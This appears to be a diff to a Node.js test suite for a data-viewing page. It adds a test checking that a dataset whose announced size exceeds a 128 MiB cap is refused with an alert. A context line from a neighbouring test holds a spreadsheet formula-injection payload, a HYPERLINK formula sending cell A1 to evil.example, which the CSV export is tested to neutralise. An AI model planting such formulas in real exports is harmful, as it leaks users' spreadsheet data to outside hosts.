@@ -6,6 +6,7 @@
 import { test } from "node:test";
 import assert from "node:assert/strict";
 import { readFile } from "node:fs/promises";
+import { createServer } from "node:http";
 import { join, resolve } from "node:path";
 import { useServedAtlas, watchForErrors } from "./support.mjs";
 
@@ -175,4 +176,31 @@ test("the CSV export guards a title a spreadsheet would run as a formula", async
   assert.ok(csv.includes(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`), csv);
   assert.ok(!/(^|,)"?=HYPERLINK/m.test(csv), csv);
   await context.close();
+});
+
+test("a dataset past the byte cap is refused from its Content-Length, and the events stay", async () => {
+  // A server that announces 200 MB (over the 128 MiB cap) and then sends almost nothing.
+  const huge = createServer((request, response) => {
+    response.writeHead(200, {
+      "content-type": "application/json",
+      "content-length": String(200 * 1024 * 1024),
+      "access-control-allow-origin": "*",
+    });
+    response.write("{");
+  });
+  await new Promise((done) => huge.listen(0, "127.0.0.1", done));
+  const origin = `http://127.0.0.1:${huge.address().port}`;
+  try {
+    await trustingPage("/fixtures/trusting-huge.html", origin);
+    const page = await atlas.browser.newPage({ locale: "fr-FR" });
+    await page.goto(`${atlas.server.url}fixtures/trusting-huge.html?src=${encodeURIComponent(`${origin}/huge.json`)}`);
+    const alert = page.locator(".ha-alert");
+    await alert.waitFor();
+    assert.match(await alert.textContent(), /le fichier dépasse 128 Mo, le maximum que cette page lit/);
+    assert.ok((await embeddedRowCount(page)) >= 10);
+    await page.close();
+  } finally {
+    huge.closeAllConnections();
+    await new Promise((done) => huge.close(done));
+  }
 });
